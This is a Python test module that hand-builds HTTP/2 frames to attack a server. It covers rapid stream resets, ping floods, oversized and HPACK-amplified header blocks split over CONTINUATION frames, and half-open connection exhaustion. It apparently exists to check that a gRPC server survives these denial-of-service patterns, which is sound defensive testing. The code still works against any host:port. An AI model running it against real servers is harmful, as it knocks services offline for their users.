"""A client that means harm: `python -m tests.abuse.abuser HOST:PORT KIND COUNT [again]`.

It speaks HTTP/2 by hand, because no decent client can be made to do such things, and keeps on, on a
new connection whenever it is cut off. Prints how many connections that took.
"""

import socket
import struct
import sys
import threading
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Final

HEADER_BYTES: Final = 60_000
SWOLLEN_BYTES: Final = 2_000_000

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL: Final = struct.pack(">I", 8)
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAME_BYTES_MAX: Final = 16_384
_SECONDS_MAX: Final = 60
_REFUSED_MAX: Final = 1_000
"""Connections in a row that take nothing: the server is gone."""

Attack = Callable[[int], bytes]
"""What is sent as the n-th of its kind on a connection."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """As HTTP/2 has them."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


HELLO: Final = _PREFACE + frame(_SETTINGS, 0, 0, b"")
"""What every connection begins with."""
ACKNOWLEDGED: Final = frame(_SETTINGS, 1, 0, b"")
"""The server's settings count from here on."""


def reset(number: int) -> bytes:
    """A call that is given up as soon as it was made."""
    stream = 2 * number + 1
    return (
        frame(_HEADERS, _END_HEADERS, stream, _header_block())
        + frame(_DATA, _END_STREAM, stream, bytes(5))
        + frame(_RST_STREAM, 0, stream, _CANCEL)
    )


def ping(number: int) -> bytes:
    """A question that HTTP/2 wants answered."""
    return frame(_PING, 0, 0, number.to_bytes(8, "big"))


def headers(number: int) -> bytes:
    """A call with far more metadata than anybody has."""
    return call_with(HEADER_BYTES, number)


def swollen(number: int) -> bytes:
    """A call whose metadata is large only for who has to read it."""
    return call_with_swollen(SWOLLEN_BYTES, number)


def call_with(header_bytes: int, number: int) -> bytes:
    """A call with so much metadata, more or less."""
    return _call(number, b"".join(_pair(index) for index in range(header_bytes // 112)))


def call_with_swollen(header_bytes: int, number: int) -> bytes:
    """So much metadata, by HTTP/2's way of counting, of one byte for 47 each."""
    # 17 is "accept-language", without a value, in HPACK's static table.
    return _call(number, b"\x91" * (header_bytes // 47))


def _call(number: int, more_headers: bytes) -> bytes:
    stream, block = 2 * number + 1, _header_block() + more_headers
    first, *rest = [
        block[at : at + _FRAME_BYTES_MAX] for at in range(0, len(block), _FRAME_BYTES_MAX)
    ]
    frames = [frame(_HEADERS, _END_STREAM, stream, first)]
    frames += [frame(_CONTINUATION, 0, stream, each) for each in rest]
    frames.append(frame(_CONTINUATION, _END_HEADERS, stream, b""))
    return b"".join(frames)


def _pair(index: int) -> bytes:
    return _literal(f"x-storm-{index}", "x" * 100)


def attack(target: str, kind: Attack, count: int, hello: bytes = HELLO) -> int:
    """Send so many of a kind; over how many connections."""
    sent = connections = fruitless = 0
    while sent < count and fruitless < _REFUSED_MAX:
        connections += 1
        taken = _until_cut(target, kind, count - sent, hello)
        fruitless = 0 if taken else fruitless + 1
        sent += taken
    if sent < count:
        raise SystemExit(f"only {sent} of {count} were taken")
    return connections


def _until_cut(target: str, kind: Attack, count: int, hello: bytes) -> int:
    """How many were sent on one connection before the server hung up, if it did."""
    sent = 0
    with suppress(OSError), _connected(target) as conn:
        reader = threading.Thread(target=_discard, args=(conn,), daemon=True)
        reader.start()
        try:
            conn.sendall(hello)
            while sent < count:
                conn.sendall(kind(sent))
                sent += 1
            # The server hangs up, too, once it has read everything.
            conn.shutdown(socket.SHUT_WR)
        finally:
            reader.join()
    return sent


def half_open(target: str, count: int, first: bytes = b"") -> int:
    """Connect so often, say no more than `first`, and wait; how many the server hung up on."""
    with ExitStack() as stack:
        conns = [stack.enter_context(_connected(target)) for _ in range(count)]
        for conn in conns:
            conn.sendall(first)
        return sum(map(_hung_up, conns))


def _hung_up(conn: socket.socket) -> bool:
    try:
        while conn.recv(65_536):
            pass
    except TimeoutError:
        return False
    except OSError:
        pass
    return True


def _connected(target: str) -> socket.socket:
    host, port = target.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=_SECONDS_MAX)


def _discard(conn: socket.socket) -> None:
    with suppress(OSError):
        while conn.recv(65_536):
            pass


def _header_block() -> bytes:
    # 0x83 and 0x86 are ":method: POST" and ":scheme: http" of HPACK's static table.
    named = {
        ":path": "/inventory.v1.OrderService/GetOrder",
        ":authority": "test",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"\x83\x86" + b"".join(_literal(name, value) for name, value in named.items())


def _literal(name: str, value: str) -> bytes:
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


KINDS: Final[dict[str, Callable[[str, int], int]]] = {
    "resets": lambda target, count: attack(target, reset, count),
    "pings": lambda target, count: attack(target, ping, count),
    "headers": lambda target, count: attack(target, headers, count),
    "headers_swollen": lambda target, count: attack(target, swollen, count),
    "headers_acked": lambda target, count: attack(target, headers, count, HELLO + ACKNOWLEDGED),
    "half_open": half_open,
}


def main() -> int:
    """Do harm, once or again and again; the exit status is 0 when all of it was done."""
    target, kind, count, *again = sys.argv[1:]
    while True:
        sys.stdout.write(f"{KINDS[kind](target, int(count))}\n")
        sys.stdout.flush()
        if not again:
            return 0


if __name__ == "__main__":
    sys.exit(main())
